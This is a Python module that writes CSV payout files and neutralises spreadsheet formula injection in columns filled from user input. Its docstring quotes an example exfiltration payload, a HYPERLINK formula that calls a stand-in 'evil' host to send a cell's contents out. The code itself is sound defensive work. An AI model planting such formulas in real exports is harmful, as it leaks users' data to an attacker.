"""CSV files for spreadsheets, with the cells people typed made inert (OWASP "CSV injection").

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a carriage
return) as a formula: a buyer naming themselves ``=HYPERLINK("http://evil/?"&A1)`` would reach the
seller's computer through the payout batch file. Such cells get a leading ``'``, which spreadsheets show
as text and do not print. Only the columns whose text comes from people (names, contacts, references,
reasons) are treated: amounts and dates are written by weishang itself, so a negative balance stays the
number ``-12.30`` rather than the text ``'-12.30``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet shows it but never runs it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_rows(
    handle: IO[str], fields: list[str], rows: Iterable[Mapping[str, Any]], people_fields: Iterable[str]
) -> None:
    """A header and ``rows``, the ``people_fields`` columns neutralised."""
    treated = set(people_fields)
    writer = csv.DictWriter(handle, fieldnames=fields)
    writer.writeheader()
    for row in rows:
        writer.writerow({key: neutralise(value) if key in treated else value for key, value in row.items()})
